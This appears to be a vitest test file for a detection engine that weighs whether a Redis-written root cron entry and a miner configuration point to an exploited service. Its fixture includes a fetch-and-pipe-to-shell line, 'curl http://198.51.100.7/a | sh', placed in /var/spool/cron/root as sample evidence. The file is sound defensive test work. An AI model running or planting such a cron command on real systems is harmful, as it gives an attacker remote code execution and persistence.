import { expect, test } from 'vitest';
import { type Logged, makeLogCase } from '../../../tests/make-log-case.ts';
import type { Answer } from '../../model/answer.ts';
import type { Autostart } from '../../model/machine-payloads.ts';
import { entry } from '../entry.ts';

const place = '/var/spool/cron/root';

function answerTo(more: Partial<Autostart>): Answer {
  const starts = 'curl http://198.51.100.7/a | sh';
  const value: Autostart = { mechanism: 'cron', place, starts, why: [], ...more };
  const seen: Logged[] = [
    { in: place, kind: 'autostart', value },
    { in: '/opt/x/config.json', kind: 'mining-config', value: { source: 'json', pools: [] } },
  ];
  return entry.assess(makeLogCase(seen, [{ detector: 'configured-miner', stage: 'configured', over: [1] }]));
}

const weighed = (more: Partial<Autostart>) =>
  answerTo(more).weighing?.items.filter(({ indicator }) => indicator === 'exploit-worked') ?? [];
const holes = (answer: Answer): number => answer.hypotheses.find(({ id }) => id === 'exploit')?.probability.mid ?? 0;

test('a cron table that Redis wrote speaks for a hole in a service', () => {
  const why: Autostart['why'] = ['written-by-redis'];
  expect(weighed({ why, carries: 'download' })).toMatchObject([
    { says: expect.stringContaining(`Redis wrote ${place}`) },
  ]);
  expect(holes(answerTo({ why, carries: 'download' }))).toBeGreaterThan(holes(answerTo({ why })));
  expect(holes(answerTo({ why }))).toBeGreaterThan(holes(answerTo({})));
});

test('any other cron table says nothing of it', () => {
  expect(weighed({ carries: 'download', why: ['fetches-and-runs'] })).toEqual([]);
});
